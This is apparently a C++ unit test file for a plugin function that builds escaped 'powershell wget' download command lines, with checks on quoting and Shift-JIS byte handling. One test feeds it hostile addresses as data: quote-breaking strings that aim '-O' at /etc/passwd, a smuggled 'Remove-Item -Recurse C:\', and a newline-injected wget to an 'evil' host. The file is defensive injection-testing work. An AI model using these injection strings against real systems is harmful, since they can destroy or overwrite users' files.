// The command line the plugin builds for the download helper: what it
// encodes, that hostile addresses stay one word, and that the helper's own
// reading (protocol/command_line.h, after the Windows split) gives back the
// address and path.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "platform/cmdline.h"
#include "protocol/command_line.h"

namespace kivo::protocol {
namespace {

constexpr char kListing[] =
    "https://www.kivo.co.jp/bec/SE/Genre?dcode=01&ccode=01&taishongpi=20261207"
    "&Genre_id=010100&listcnt=1";

TEST(BuildFetchCommandLine, OrdinaryAddressesAsTheHelperExpects) {
  EXPECT_EQ(BuildFetchCommandLine(kListing, "C:\\Temp\\Getkivo.html"),
            "powershell wget 'https://www.kivo.co.jp/bec/SE/Genre?dcode=01\"&\"ccode=01\"&\""
            "taishongpi=20261207\"&\"Genre_id=010100\"&\"listcnt=1' -O 'C:\\Temp\\Getkivo.html'");
  EXPECT_EQ(BuildFetchCommandLine("http://example.com/a?b=1&c=2", "/tmp/Getkivo2.html"),
            "powershell wget 'http://example.com/a?b=1\"&\"c=2' -O '/tmp/Getkivo2.html'");
  // Characters PowerShell or a URL might mind, but the line does not, pass.
  EXPECT_EQ(BuildFetchCommandLine("HTTPS://x/%41;$(a)|b`c#d", "/t/f"),
            "powershell wget 'HTTPS://x/%41;$(a)|b`c#d' -O '/t/f'");
}

TEST(BuildFetchCommandLine, EncodesWhatCouldBreakOutOfTheQuotes) {
  EXPECT_EQ(BuildFetchCommandLine("https://x/a' -O '/etc/passwd", "/t/f"),
            "powershell wget 'https://x/a%27%20-O%20%27/etc/passwd' -O '/t/f'");
  EXPECT_EQ(BuildFetchCommandLine("https://x/\"a\\b\"\t\x7f\x01", "/t/f"),
            "powershell wget 'https://x/%22a%5Cb%22%09%7F%01' -O '/t/f'");
  // Shift-JIS "本" (96 7B) in an address: the lead byte is encoded, the
  // second is plain ASCII; decoding gives the same two bytes.
  EXPECT_EQ(BuildFetchCommandLine("https://x/?q=\x96\x7b\xe0\xa0", "/t/f"),
            "powershell wget 'https://x/?q=%96{%E0%A0' -O '/t/f'");
  // A run of "&" sits in one pair of double quotes.
  EXPECT_EQ(BuildFetchCommandLine("https://x/?a&&b", "/t/f"),
            "powershell wget 'https://x/?a\"&&\"b' -O '/t/f'");
}

TEST(BuildFetchCommandLine, HostileAddressesStayOneWord) {
  const std::vector<std::string> hostile = {
      "https://x/a' -O '/etc/passwd",
      "https://x/a'; Remove-Item -Recurse C:\\ ; '",
      "https://x/\" -O \"/etc/passwd",
      "https://x/a\\\" -O /etc/passwd \\\"",
      "https://x/a\"&\"b\"\"&\"\"'",
      "https://x/&&&\"&'&\\&",
      "https://x/\r\nwget 'http://evil/' -O '/tmp/x'",
      "https://x/a'' -O ''b",
  };
  for (const std::string& address : hostile) {
    SCOPED_TRACE(address);
    const std::string line = BuildFetchCommandLine(address, "/tmp/Getkivo.html");
    ASSERT_FALSE(line.empty());
    const auto words = platform::SplitCommandLine(line);
    ASSERT_EQ(words.size(), 5u);
    EXPECT_EQ(words[1], "wget");
    EXPECT_EQ(words[2].front(), '\'');
    EXPECT_EQ(words[2].back(), '\'');
    EXPECT_EQ(words[2].find('\'', 1), words[2].size() - 1);  // no quote inside
    EXPECT_EQ(words[3], "-O");
    EXPECT_EQ(words[4], "'/tmp/Getkivo.html'");
  }
}

TEST(BuildFetchCommandLine, TheDownloadHelperReadsItBack) {
  struct Case {
    std::string address, path, read_address;
  };
  const std::vector<Case> cases = {
      {kListing, "/tmp/Getkivo.html", kListing},
      {"https://x/a' -O '/etc/passwd", "/tmp/it's here.html",
       "https://x/a%27%20-O%20%27/etc/passwd"},
      {"https://x/?a&&b", "C:\\Documents and Settings\\\x95\x5c\\Getkivo2.html", "https://x/?a&&b"},
      // Runs of spaces, one of them after backslashes, as cover paths may hold.
      {"https://x/", "C:\\Temp\\a  b\\\\   c.jpg", "https://x/"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.address);
    const auto words = platform::SplitCommandLine(BuildFetchCommandLine(c.address, c.path));
    ASSERT_GE(words.size(), 2u);
    const std::string joined =
        JoinCommandWords(std::vector<std::string>(words.begin() + 1, words.end()));
    DownloadCommand command;
    std::string error;
    ASSERT_TRUE(ParseDownloadCommand(joined, command, error)) << error;
    EXPECT_EQ(command.address, c.read_address);
    EXPECT_EQ(command.output_path, c.path);
  }
}

TEST(BuildFetchCommandLine, APathIsWrittenAndSplitACharacterAtATime) {
  const std::string head = "powershell wget 'https://x/' -O '";
  // 表 (95 5C) before a run of spaces: its 0x5C is no backslash, so no
  // backslash is added before the quote, and the splitter does not take it
  // for one escaping the quote.
  const std::string hyo_line = BuildFetchCommandLine("https://x/", "\x95\x5c  a");
  EXPECT_EQ(hyo_line, head + "\x95\x5c\"  \"a'");
  EXPECT_EQ(platform::SplitCommandLine(hyo_line)[4], "'\x95\x5c  a'");
  // ソ (83 5C) and then a real backslash: only the real one is doubled.
  const std::string so_line = BuildFetchCommandLine("https://x/", "\x83\x5c\\  b");
  EXPECT_EQ(so_line, head + "\x83\x5c\\\\\"  \"b'");
  EXPECT_EQ(platform::SplitCommandLine(so_line)[4], "'\x83\x5c\\  b'");
  // A lone 0x5C before a quote is still an escape; after 表 it is not.
  EXPECT_EQ(platform::SplitCommandLine("p \x95\x5c\"a b\""), (std::vector<std::string>{"p",
                                                                                       "\x95\x5c"
                                                                                       "a b"}));
  EXPECT_EQ(platform::SplitCommandLine("p x\\\"a b\""),
            (std::vector<std::string>{"p", "x\"a", "b"}));
  // ‘ and ’ are single quotes to PowerShell and are doubled as "'" is; the
  // bytes 81 66 across two characters (81 81, then "f") are not one.
  EXPECT_EQ(BuildFetchCommandLine("https://x/", "\x81\x65x\x81\x66'"),
            head + "\x81\x65\x81\x65x\x81\x66\x81\x66'''");
  EXPECT_EQ(BuildFetchCommandLine("https://x/", "\x81\x81\x66"), head + "\x81\x81\x66'");
}

TEST(BuildFetchCommandLine, RefusesWhatCannotBePassedSafely) {
  EXPECT_EQ(BuildFetchCommandLine("", "/t/f"), "");
  EXPECT_EQ(BuildFetchCommandLine("https://x/", ""), "");
  EXPECT_EQ(BuildFetchCommandLine("ftp://x/", "/t/f"), "");
  EXPECT_EQ(BuildFetchCommandLine("file:///etc/passwd", "/t/f"), "");
  EXPECT_EQ(BuildFetchCommandLine("-O /etc/passwd https://x/", "/t/f"), "");
  EXPECT_EQ(BuildFetchCommandLine("https:/x", "/t/f"), "");
  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/\"f"), "");
  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/f\n"), "");
  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/t/\tf"), "");
  EXPECT_EQ(BuildFetchCommandLine("https://x/", "/tmp/it's.html"),
            "powershell wget 'https://x/' -O '/tmp/it''s.html'");
}

}  // namespace
}  // namespace kivo::protocol
